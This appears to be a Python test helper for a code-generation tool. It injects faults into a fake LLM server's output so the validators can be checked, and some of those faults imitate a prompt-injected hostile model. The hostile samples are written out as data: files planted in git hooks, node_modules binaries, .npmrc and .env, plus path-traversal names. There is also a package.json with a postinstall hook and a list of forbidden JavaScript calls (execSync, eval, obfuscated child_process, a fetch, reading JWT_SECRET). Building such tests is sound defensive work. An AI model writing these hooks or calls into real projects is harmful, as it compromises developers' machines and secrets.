"""Content faults the fake LLM server injects into otherwise correct template output:
the mistakes models make that only validation can catch."""

from __future__ import annotations

import re
from dataclasses import replace

from backforge.engine.protocols import GeneratedFile, Generation

CONTENT_FAULTS = ("missing-file", "renamed-export", "wrong-import", "syntax")
# Never drawn unless named: a self-consistent answer that renames a name it exports, which
# only the unit's contract (what the others were written against) can catch.
CONTRACT_FAULTS = ("broken-contract",)
# A hostile (prompt-injected) model: never drawn unless asked for by name.
HOSTILE_FAULTS = ("planted-paths", "install-hook", "forbidden-api", "many-files",
                  "huge-answer")

# Paths a model must never write, whatever unit it answers for.
PLANTED: dict[str, str] = {
    ".backforge/manifest.json": '{"format": 1, "units": {}, "files": {}}\n',
    ".backforge/base/src/app.js.base": "require('child_process').execSync('id');\n",
    ".npmrc": "registry=http://127.0.0.1:9/\n",
    ".yarnrc.yml": "npmRegistryServer: http://127.0.0.1:9/\n",
    ".git/hooks/pre-commit": "#!/bin/sh\ntouch /tmp/backforge-pwned\n",
    "node_modules/.bin/jest": "#!/bin/sh\ntouch /tmp/backforge-pwned\n",
    ".env": "JWT_SECRET=attacker\n",
    "src/package.json": '{"type": "module"}\n',
    "../x": "outside\n",
    "/etc/x": "outside\n",
    "src/a\x00b.js": "module.exports = {};\n",
    "src/" + "n" * 300 + ".js": "module.exports = {};\n",
}
HOSTILE_PACKAGE_JSON = """{
  "name": "pwned",
  "version": "1.0.0",
  "scripts": {
    "postinstall": "node -e \\"require('fs').writeFileSync('/tmp/backforge-pwned', '')\\"",
    "test": "jest --runInBand"
  },
  "dependencies": {
    "express": "^5.1.0",
    "evil-pkg": "^1.0.0",
    "pg": "git+https://example.invalid/pg.git"
  }
}
"""
# One forbidden API per line, in the order js_safety's rules are listed.
FORBIDDEN_SNIPPETS = (
    "require('child_process').execSync('touch /tmp/backforge-pwned');",
    "eval('1 + 1');",
    "new Function('return 1')();",
    "require('vm').runInNewContext('1');",
    "require('worker_threads');",
    "process.binding('spawn_sync');",
    "require('fs').writeFileSync('/tmp/backforge-pwned', '');",
    "fetch('http://example.invalid/');",
    "const leaked = process.env.JWT_SECRET;",
    "require('child' + '_process');",
    "globalThis['ev' + 'al']('1');",
)
MANY_FILES = 100_000
HUGE_BYTES = 50_000_000

# `const { a, b } = require('../x')`: the first destructured name of a relative require.
_DESTRUCTURED = re.compile(r"(const\s*\{\s*)(\w+)(?=[^}]*\}\s*=\s*require\(\s*['\"]\.)")
_RELATIVE_REQUIRE = re.compile(r"(require\(\s*(['\"])\.{1,2}/[^'\"]+?)(\.js)?\2")
_EXPORTED = re.compile(r"module\.exports\s*=\s*\{\s*(\w+)")


def apply_hostile_fault(kind: str, generation: Generation) -> Generation:
    """The generation as a hostile model would return it (see HOSTILE_FAULTS)."""
    files = list(generation.files)
    if kind == "planted-paths":
        files += [GeneratedFile(p, c) for p, c in PLANTED.items()]
    elif kind == "install-hook":
        files = [f for f in files if f.path != "package.json"]
        files.append(GeneratedFile("package.json", HOSTILE_PACKAGE_JSON))
        return replace(generation, files=tuple(files),
                       dependencies={**generation.dependencies, "evil-pkg": "^1.0.0"})
    elif kind == "forbidden-api":
        for i, f in enumerate(files):
            if f.path.endswith(".js"):
                files[i] = GeneratedFile(f.path, f.content.rstrip("\n") + "\n"
                                         + "\n".join(FORBIDDEN_SNIPPETS) + "\n")
                break
        else:
            files.append(GeneratedFile("src/utils/pwn.js", "\n".join(FORBIDDEN_SNIPPETS)))
    elif kind == "many-files":
        files += [GeneratedFile(f"src/junk/f{i}.js", "") for i in range(MANY_FILES)]
    elif kind == "huge-answer":
        files.append(GeneratedFile("src/utils/huge.js", "//" + "x" * HUGE_BYTES + "\n"))
    return replace(generation, files=tuple(files))


def apply_content_fault(kind: str, generation: Generation) -> Generation:
    """The generation with one `kind` mistake; a unit with no place for a rename or a
    wrong import gets a syntax error instead, so the fault is never a silent no-op."""
    if kind in HOSTILE_FAULTS:
        return apply_hostile_fault(kind, generation)
    files = list(generation.files)
    if not files:
        return generation
    if kind == "missing-file":
        files = files[1:]
    elif kind == "broken-contract":
        if not _rename_export(files):
            _break_syntax(files)
    elif not _patch(files, kind):
        _break_syntax(files)
    return replace(generation, files=tuple(files))


_PATCHES = {"renamed-export": (_DESTRUCTURED, r"\1\2Renamed"),
            "wrong-import": (_RELATIVE_REQUIRE, r"\1-missing\3\2")}


def _patch(files: list[GeneratedFile], kind: str) -> bool:
    if kind not in _PATCHES:
        return False
    pattern, replacement = _PATCHES[kind]
    for i, f in enumerate(files):
        if f.path.endswith(".js") and pattern.search(f.content):
            files[i] = GeneratedFile(f.path, pattern.sub(replacement, f.content, count=1))
            return True
    return False


def _rename_export(files: list[GeneratedFile]) -> bool:
    """Rename the first name of the first `module.exports = { ... }` all through its file."""
    for i, f in enumerate(files):
        m = _EXPORTED.search(f.content) if f.path.endswith(".js") else None
        if m:
            name = m.group(1)
            files[i] = GeneratedFile(f.path, re.sub(rf"\b{name}\b", f"{name}V2", f.content))
            return True
    return False


def _break_syntax(files: list[GeneratedFile]) -> None:
    for i, f in enumerate(files):
        if f.path.endswith(".js"):
            files[i] = GeneratedFile(f.path, f.content + "\nfunction broken( {\n")
            return
    # No JavaScript (e.g. config files only): break the first JSON-ish file instead.
    f = files[0]
    files[0] = GeneratedFile(f.path, f.content + "\n{{{ unbalanced\n")
